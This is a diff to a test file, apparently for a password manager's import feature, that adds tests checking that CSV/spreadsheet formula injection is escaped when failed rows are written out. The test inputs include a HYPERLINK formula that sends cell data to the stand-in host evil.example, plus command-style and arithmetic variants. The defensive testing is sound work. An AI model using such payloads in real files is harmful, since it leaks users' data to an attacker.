@@ -27,3 +27,12 @@ it('what failed can be read again, says why, and is no formula', () => {
 	const read = readImportFile(encode(text))
 	expect(read.ok && read.value[0]).toMatchObject({ name: row.name, tags: row.tags, password: undefined })
 })
+
+it.each(['=HYPERLINK("http://evil.example/"&A1)&"\n"', '＝cmd()', '-1+1\r\n2'])(
+	'T96 %j is no formula either',
+	(name) => {
+		const row = { line: 2, address: 'blog.example', username: 'ann', name, tags: [] }
+		const text = writeFailedRows([{ row, problem: undefined }], 'en')
+		expect(text).toContain(`'${name.slice(0, 4)}`)
+	},
+)
